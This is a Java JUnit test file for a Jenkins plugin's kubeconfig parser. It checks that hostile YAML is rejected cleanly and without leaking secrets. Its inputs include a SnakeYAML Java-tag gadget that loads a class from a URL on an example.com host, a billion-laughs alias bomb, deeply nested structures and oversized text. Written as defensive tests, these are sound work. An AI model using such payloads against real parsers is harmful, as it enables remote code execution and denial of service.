package io.jenkins.plugins.workbenchcredentials.kubeconfig;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import io.jenkins.plugins.workbenchcredentials.error.WorkbenchException;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Input made to break or stall the parser. Each must end with one clear error. The timeout only guards
 * against a hang; speed is measured by the benchmark.
 */
class HostileKubeconfigTest {
    private static final Duration HANG_GUARD = Duration.ofSeconds(5);
    private static final String SECRET = "tOpSeCrEt-value-42";

    private final KubeconfigAnalyzer analyzer = Fixtures.analyzer();

    private KubeconfigProblem rejected(String text) {
        KubeconfigAnalysis analysis = assertTimeoutPreemptively(HANG_GUARD, () -> analyzer.analyse(text));
        assertThat(analysis.valid()).isFalse();
        assertThat(analysis.summary()).isNull();
        assertThat(analysis.errors()).hasSize(1);
        KubeconfigProblem error = analysis.errors().get(0);
        assertThat(error.path()).isEmpty();
        assertThat(error.message()).doesNotContain(SECRET);
        assertThat(assertTimeoutPreemptively(HANG_GUARD, () -> analyzer.sensitiveFragments(text)))
                .isEmpty();
        return error;
    }

    @Test
    void textThatIsNotYamlGivesTheLineAndColumnButNotTheLine() {
        KubeconfigProblem error = rejected("users:\n- name: u\n  user:\n    token: \"" + SECRET + "\n");

        assertThat(error.code()).isEqualTo("kubeconfig.yamlSyntax");
        assertThat(error.args()).containsExactly("5", "1");
        assertThat(error.message()).isEqualTo("The kubeconfig is not valid YAML: syntax error at line 5, column 1.");
    }

    @Test
    void tabIndentationIsASyntaxError() {
        assertThat(rejected("users:\n\t- token: " + SECRET + "\n").code()).isEqualTo("kubeconfig.yamlSyntax");
    }

    @Test
    void aScalarThatCannotBeBuiltDoesNotLeakItsValue() {
        // SnakeYAML's own exception for this quotes the value
        assertThat(rejected("token: !!int " + SECRET + "\n").code()).isEqualTo("kubeconfig.notYaml");
    }

    @Test
    void javaTagsAreRefusedWithoutBuildingAnything() {
        String text = "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://"
                + SECRET + ".example.com/\"]]]]\n";

        assertThat(rejected(text).code()).isEqualTo("kubeconfig.yamlSyntax");
    }

    @Test
    void duplicateKeysAreRefused() {
        KubeconfigProblem error = rejected("apiVersion: v1\ncurrent-context: a\ncurrent-context: " + SECRET + "\n");

        assertThat(error.code()).isEqualTo("kubeconfig.duplicateKey");
        assertThat(error.args()).containsExactly("3", "1");
    }

    @Test
    void moreThanOneDocumentIsRefused() {
        assertThat(rejected("apiVersion: v1\n---\napiVersion: v1\n").code()).isEqualTo("kubeconfig.yamlSyntax");
    }

    @Test
    void textThatIsNotAMappingIsRefusedNamingWhatItIs() {
        assertThat(rejected("- clusters\n- users\n").args()).containsExactly("list");
        KubeconfigProblem scalar = rejected("just some text");
        assertThat(scalar.code()).isEqualTo("kubeconfig.notMapping");
        assertThat(scalar.message())
                .isEqualTo("The kubeconfig must be a YAML mapping with clusters, users and contexts; found a string.");
    }

    @Test
    void aBillionLaughsAliasBombIsStoppedAtTheAliasLimit() {
        StringBuilder bomb =
                new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        String previous = "a";
        for (int level = 0; level < 9; level++) {
            String name = "l" + level;
            bomb.append(name).append(": &").append(name).append(" [");
            bomb.append(String.join(",", java.util.Collections.nCopies(9, "*" + previous)));
            bomb.append("]\n");
            previous = name;
        }

        KubeconfigProblem error = rejected(bomb.toString());

        assertThat(error.code()).isEqualTo("kubeconfig.tooManyAliases");
        assertThat(error.args()).containsExactly(String.valueOf(KubeconfigLimits.DEFAULT.maxAliasesForCollections()));
    }

    @Test
    void tenThousandLevelsOfNestingAreStoppedAtTheDepthLimit() {
        String lists = "[".repeat(10_000) + "]".repeat(10_000);
        String mappings = "{a: ".repeat(10_000) + "b" + "}".repeat(10_000);
        String blocks = buildBlockNesting(10_000);

        for (String text : List.of(lists, mappings, blocks)) {
            KubeconfigProblem error = rejected(text);
            assertThat(error.code()).isEqualTo("kubeconfig.tooDeep");
            assertThat(error.message()).contains(String.valueOf(KubeconfigLimits.DEFAULT.maxNestingDepth()));
        }
    }

    /** "- " per level: block sequences nest without indentation growing past the size limit. */
    private static String buildBlockNesting(int depth) {
        return "- ".repeat(depth) + "x\n";
    }

    @Test
    void fiveMebibytesAreRefusedBeforeParsing() {
        String ascii = "token: " + "A".repeat(5 * 1024 * 1024) + "\n";
        String multiByte = "token: " + "密".repeat(400_000) + "\n"; // 1.2 MB in UTF-8, 0.4 M chars

        for (String text : List.of(ascii, multiByte)) {
            KubeconfigProblem error = rejected(text);
            assertThat(error.code()).isEqualTo("kubeconfig.tooLarge");
            assertThat(error.message()).isEqualTo("The kubeconfig is larger than 1048576 bytes.");
        }
    }

    @Test
    void theSizeLimitCountsUtf8Bytes() {
        assertThat(SafeYamlLoader.exceedsUtf8Bytes("aé", 3)).isFalse();
        assertThat(SafeYamlLoader.exceedsUtf8Bytes("aéa", 3)).isTrue();
        assertThat(SafeYamlLoader.exceedsUtf8Bytes("密", 3)).isFalse();
        assertThat(SafeYamlLoader.exceedsUtf8Bytes("密a", 3)).isTrue();
        assertThat(SafeYamlLoader.exceedsUtf8Bytes("😀", 4)).isFalse();
        assertThat(SafeYamlLoader.exceedsUtf8Bytes("😀", 3)).isTrue();
    }

    @Test
    void selectRefusesHostileTextAsAnInvalidKubeconfig() {
        String bomb = "[".repeat(10_000) + "]".repeat(10_000);

        assertThatThrownBy(() -> assertTimeoutPreemptively(HANG_GUARD, () -> analyzer.select(bomb, "any", null)))
                .isInstanceOfSatisfying(WorkbenchException.class, e -> {
                    assertThat(e.field()).isEqualTo("kubeconfig");
                    assertThat(e.messageKey()).isEqualTo("kubeconfig.invalid");
                    assertThat(e.getMessage()).contains("deeper than");
                });
    }
}
